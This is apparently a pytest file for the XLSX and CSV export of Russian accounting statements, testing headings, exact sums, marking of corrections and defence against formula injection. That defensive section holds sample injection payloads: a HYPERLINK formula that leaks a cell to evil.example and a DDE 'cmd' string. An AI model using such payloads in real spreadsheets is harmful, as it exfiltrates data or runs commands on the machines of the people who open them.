"""The ОСВ export's columns come from the contract's row (services.contract.osv_row); the
core keeps only their headings."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from typing import Any, cast

import openpyxl

from services.arm_core.db.models import Correction
from services.arm_core.documents.corrections import CorrectedDocument, apply_corrections
from services.arm_core.documents.export import (
    CHECKS_SHEET,
    CORRECTED_FILL,
    DOUBT_FILL,
    OSV_COLUMNS,
    OSV_LEFT_OFF,
    OSV_TITLES,
    TABLE_HEADING,
    WARNINGS_SHEET,
    csv_text,
    osv_csv,
    osv_xlsx,
    statement_csv,
    statement_xlsx,
)
from services.arm_core.documents.read import DocumentBody
from services.arm_statements import HEADER_FIELDS
from services.contract.models.result_v2 import StatementDocument
from services.contract.models.result_v2_dicts import OsvDocument as OsvBody
from services.contract.models.result_v2_dicts import OsvRow as OsvRowBody
from services.contract.models.result_v2_dicts import StatementDocument as StatementBody
from services.contract.osv_row import OSV_ROW_FIELDS

_ROW: OsvRowBody = {
    "row_index": 0,
    "ref": "ОСВ!A5",
    "level": 1,
    "kind": "account",
    "account": "01.01",
    "name": "Основные средства",
    "inn": None,
    "opening_debit": "1000.10",
    "opening_credit": None,
    "turnover_debit": "0.01",
    "turnover_credit": "12345678901234.99",
    "closing_debit": "-5",
    "closing_credit": None,
}


def test_every_field_of_the_contract_row_has_a_title_or_is_left_off_on_purpose() -> None:
    """A field the contract adds fails here until the export gives it a heading (or says why
    not); a title for a field the contract no longer has fails too."""
    untitled = set(OSV_ROW_FIELDS) - set(OSV_TITLES) - OSV_LEFT_OFF
    assert not untitled, f"ОСВ row fields without an export title: {sorted(untitled)}"
    assert set(OSV_TITLES) <= set(OSV_ROW_FIELDS), set(OSV_TITLES) - set(OSV_ROW_FIELDS)
    assert not OSV_LEFT_OFF - set(OSV_ROW_FIELDS), OSV_LEFT_OFF - set(OSV_ROW_FIELDS)
    assert not OSV_LEFT_OFF & set(OSV_TITLES)


def test_the_columns_are_the_contract_fields_in_its_order_under_their_titles() -> None:
    assert [field for field, _ in OSV_COLUMNS] == [
        f for f in OSV_ROW_FIELDS if f not in OSV_LEFT_OFF
    ]
    assert all(title == OSV_TITLES[field] for field, title in OSV_COLUMNS)


def test_the_xlsx_has_the_headings_then_each_row_with_exact_sums() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(osv_xlsx([_ROW]))).worksheets[0]
    heading, row = ([c.value for c in r] for r in sheet.iter_rows())
    assert heading == [title for _, title in OSV_COLUMNS]
    cells = dict(zip((field for field, _ in OSV_COLUMNS), row, strict=True))
    assert cells["account"] == "01.01" and cells["name"] == "Основные средства"
    assert cells["level"] == 1 and cells["kind"] == "счёт"  # in Russian
    assert isinstance(cells["opening_debit"], (int, float))
    assert Decimal(str(cells["opening_debit"])) == Decimal("1000.10")
    assert Decimal(str(cells["closing_debit"])) == Decimal("-5")
    assert cells["opening_credit"] is None and cells["inn"] is None


def test_the_csv_writes_the_sums_exactly() -> None:
    text = osv_csv([_ROW]).decode("utf-8").lstrip("\ufeff")
    heading, row = (line.split(";") for line in text.strip().split("\r\n"))
    assert heading == [title for _, title in OSV_COLUMNS]
    cells = dict(zip((field for field, _ in OSV_COLUMNS), row, strict=True))
    assert cells["turnover_credit"] == "12345678901234.99"
    assert cells["opening_debit"] == "1000.10"
    assert cells["opening_credit"] == ""


# ---- a statement an analyst can send on, and never a formula ----------------------------

_AT = dt.datetime(2026, 12, 3, 7, 15, tzinfo=dt.UTC)
_INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Выручка")'


def _statement() -> StatementBody:
    """An ОФР: 2110 named by an injected formula, 2120 doubtful (printed «(118 45O)»), 2100
    with a code read as «+2100» that an analyst corrects."""

    def value(column: int, amount: str | None, **extra: Any) -> dict[str, Any]:
        return {
            "column_index": column,
            "amount": amount,
            "string_value": None,
            "text": extra.pop("text", amount),
            "confidence": 90,
            "is_recognized": amount is not None,
            "needs_review": extra.pop("needs_review", False),
        }

    def line(row: int, code: str | None, name: str, **rest: Any) -> dict[str, Any]:
        return {
            "row_index": row,
            "ref": f"'ОФР'!A{row + 1}",
            "line_status": rest.pop("line_status", "ok"),
            "line_code": code,
            "line_code_text": rest.pop("line_code_text", code),
            "line_code_confidence": 95,
            "line_name": name,
            "line_name_confidence": 95,
            **rest,
        }

    printed = {
        "organization_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "inn": "7728168971",
        "report_date": "2024-12-31",
        "units": "тыс. руб.",
        "okud": "0710002",
    }
    header: dict[str, Any] = {}
    for name in HEADER_FIELDS:
        found = printed.get(name)
        header |= {name: found, f"{name}_text": found, f"{name}_confidence": 90 if found else None}

    return cast(
        StatementBody,
        {
            "document_type": "INCOME",
            "form_variant": "full",
            "status": "needs_check",
            "warnings": [
                {
                    "code": "VALUE_UNREADABLE",
                    "severity": "warning",
                    "message": "-сумма не прочитана",
                    "line_refs": ["'ОФР'!A4"],
                },
            ],
            "locator": [{"sheet": "ОФР", "range": "A1:E5"}],
            "header": header | {"needs_review_fields": ["inn"]},
            "columns": [
                {
                    "column_index": index,
                    "label": label,
                    "label_confidence": 100,
                    "period_date": date,
                    "period_kind": "absolute",
                }
                for index, label, date in (
                    (3, "За 2024 г.", "2024-12-31"),
                    (4, "За 2023 г.", "2023-12-31"),
                )
            ],
            "lines": [
                line(
                    2,
                    "2110",
                    _INJECTED,
                    needs_review=False,
                    values=[value(3, "152340"), value(4, "1000.10")],
                ),
                line(
                    3,
                    "2120",
                    "Себестоимость продаж",
                    needs_review=True,
                    values=[
                        value(3, None, text="(118 45O)", needs_review=True),
                        value(4, "-98000"),
                    ],
                ),
                line(
                    4,
                    None,
                    "\tВаловая прибыль",
                    line_status="unreadable",
                    line_code_text="+21OO",
                    needs_review=True,
                    values=[value(3, "33890"), value(4, "40900")],
                ),
            ],
            "checks": {
                "relations_failed": [
                    {
                        "column_index": 3,
                        "relation": "2100 = 2110 + 2120",
                        "codes": ["2100"],
                        "expected": "152340",
                        "actual": "33890",
                    },
                ],
                "soft_relations_failed": [],
            },
        },
    )


def _corrected(*corrections: Correction) -> CorrectedDocument[DocumentBody]:
    return apply_corrections(_statement(), list(corrections))


def _fix(kind: str, **where: Any) -> Correction:
    return Correction(author="analyst-7", created_at=_AT, kind=kind, **where)


def _sheet_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def _table_start(sheet: Any) -> int:
    """The row of the table's heading (below the header block)."""
    return next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 1).value == TABLE_HEADING)


def test_no_text_cell_of_an_xlsx_export_is_a_formula_whatever_it_begins_with() -> None:
    """A line name `=HYPERLINK(…)`, an organisation `@SUM(…)`, a name beginning with a tab,
    a warning beginning with «-»: all string cells, read back exactly; the workbook's XML has
    no <f> element at all; amounts, negative ones included, are numbers."""
    data = statement_xlsx(_corrected())
    for name, xml in _sheet_xml(data).items():
        assert "<f>" not in xml and "<f " not in xml, name
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    start = _table_start(sheet)
    name_cell = sheet.cell(start + 1, 2)
    assert (name_cell.value, name_cell.data_type) == (_INJECTED, "s")
    assert sheet.cell(start + 3, 2).value == "\tВаловая прибыль"
    organisation = next(r for r in sheet.iter_rows() if r[0].value == "Организация")[1]
    assert (organisation.value, organisation.data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
    negative = sheet.cell(start + 2, 5)
    assert (negative.value, negative.data_type) == (-98000, "n")
    warning = book[WARNINGS_SHEET].cell(2, 2)
    assert (warning.value, warning.data_type) == ("-сумма не прочитана", "s")

    header: dict[str, Any] = {
        "organization_name": _INJECTED,
        "title": "Оборотно-сальдовая ведомость",
        "account": None,
        "subconto_kinds": [],
        "period_text": "=1+1",
        "period_start": None,
        "period_end": None,
        "is_from_year_start": None,
        "units": None,
    }
    document = cast(OsvBody, {"header": header, "status": "done", "checks": {"failed": []}})
    osv = osv_xlsx([{**_ROW, "name": _INJECTED, "account": "+01"}], document)
    assert not any("<f>" in xml for xml in _sheet_xml(osv).values())
    osv_sheet = openpyxl.load_workbook(io.BytesIO(osv)).worksheets[0]
    assert any(
        row == (_INJECTED,) for row in osv_sheet.iter_rows(min_col=4, max_col=4, values_only=True)
    )


def test_a_csv_text_cell_that_could_start_a_formula_is_neutralised_and_amounts_stay_numbers() -> (
    None
):
    """OWASP: a text cell beginning with =, +, -, @, tab or CR gets a leading apostrophe;
    the amounts (−98000 among them) are written as they are."""
    for dangerous in ("=1+2", "+7", "-x", "@SUM(1)", "\tx", "\rx"):
        assert csv_text(dangerous) == "'" + dangerous
    assert csv_text("Выручка") == "Выручка"
    text = (
        statement_csv(StatementDocument.model_validate(_corrected().document))
        .decode("utf-8")
        .lstrip("\ufeff")
    )
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][1] == "'" + _INJECTED
    assert rows[3][1] == "'\tВаловая прибыль"
    assert rows[2][4] == "-98000" and rows[1][4] == "1000.10"
    osv = osv_csv([{**_ROW, "name": "=cmd"}]).decode("utf-8").lstrip("\ufeff")
    [_heading, row] = list(csv.reader(io.StringIO(osv), delimiter=";"))
    cells = dict(zip((field for field, _ in OSV_COLUMNS), row, strict=True))
    assert cells["name"] == "'=cmd" and cells["closing_debit"] == "-5"


def test_the_statement_sheet_has_a_header_block_russian_words_formats_and_a_frozen_heading() -> (
    None
):
    data = statement_xlsx(_corrected())
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.title == "ОФР"
    block = {r[0].value: r[1].value for r in sheet.iter_rows(max_row=12) if r[0].value}
    assert block["ИНН"] == "7728168971"
    assert block["Отчётная дата"] == dt.datetime(2024, 12, 31)
    assert block["Единицы"] == "тыс. руб."
    assert block["ОКУД"] == "0710002"
    assert block["Форма"] == "Отчёт о финансовых результатах, полная форма"
    assert block["Статус"] == "нужна проверка"
    assert block["Проверка"] == "не проверен"
    start = _table_start(sheet)
    assert sheet.freeze_panes == f"C{start + 1}"
    assert sheet.column_dimensions["B"].width == 60
    assert [c.value for c in sheet[start]][:4] == [
        "Код",
        "Наименование",
        "Статус строки",
        "За 2024 г. (31.12.2024)",
    ]
    assert sheet.cell(start + 3, 3).value == "код не прочитан"
    assert sheet.cell(start + 1, 4).number_format == "#,##0"
    assert sheet.cell(start + 1, 5).number_format == "#,##0.00"
    assert sheet.cell(start + 1, 5).value == 1000.1
    checks = book[CHECKS_SHEET]
    assert [c.value for c in checks[2]] == [
        "строгое",
        "2100 = 2110 + 2120",
        "За 2024 г. (31.12.2024)",
        "2100",
        152340,
        33890,
        -118450,
    ]
    warnings = book[WARNINGS_SHEET]
    assert [c.value for c in warnings[2]][:3] == [
        "предупреждение",
        "-сумма не прочитана",
        "2120 Себестоимость продаж",
    ]


def test_corrected_values_are_green_with_who_and_when_and_doubtful_ones_yellow() -> None:
    """2120 typed in by analyst-7: filled green, commented with «не распознано», who and when;
    the doubtful 2120 before that, the unread code of 2100 and the doubtful ИНН: yellow, with
    what was read."""
    before = openpyxl.load_workbook(io.BytesIO(statement_xlsx(_corrected()))).worksheets[0]
    start = _table_start(before)
    doubtful = before.cell(start + 2, 4)
    assert doubtful.value is None and doubtful.fill.fgColor.rgb == DOUBT_FILL
    assert doubtful.comment is not None and "«(118 45O)»" in doubtful.comment.text
    code = before.cell(start + 3, 1)
    assert code.fill.fgColor.rgb == DOUBT_FILL and "«+21OO»" in code.comment.text
    inn = next(r for r in before.iter_rows() if r[0].value == "ИНН")[1]
    assert inn.fill.fgColor.rgb == DOUBT_FILL
    plain = before.cell(start + 1, 4)
    assert plain.comment is None and plain.fill.fgColor.rgb != CORRECTED_FILL

    value = _fix("value", line=1, column_index=3, old_value=None, new_value="-118450")
    code_fix = _fix("line_code", line=2, old_value=None, new_value="2100")
    after = openpyxl.load_workbook(io.BytesIO(statement_xlsx(_corrected(value, code_fix))))
    sheet = after.worksheets[0]
    fixed = sheet.cell(start + 2, 4)
    assert (fixed.value, fixed.fill.fgColor.rgb) == (-118450, CORRECTED_FILL)
    assert fixed.comment is not None
    assert "значение не было распознано" in fixed.comment.text
    assert "analyst-7" in fixed.comment.text and "03.12.2026 07:15 UTC" in fixed.comment.text
    assert sheet.cell(start + 3, 1).value == "2100"
    assert sheet.cell(start + 3, 1).fill.fgColor.rgb == CORRECTED_FILL
    block = {r[0].value: r[1].value for r in sheet.iter_rows(max_row=12) if r[0].value}
    assert block["Проверка"] == "исправлен, проверка не завершена"
    reviewed = _corrected(value, code_fix, _fix("reviewed"))
    marked = openpyxl.load_workbook(io.BytesIO(statement_xlsx(reviewed))).worksheets[0]
    block = {r[0].value: r[1].value for r in marked.iter_rows(max_row=12) if r[0].value}
    assert block["Проверка"] == "проверен: analyst-7, 03.12.2026 07:15 UTC"
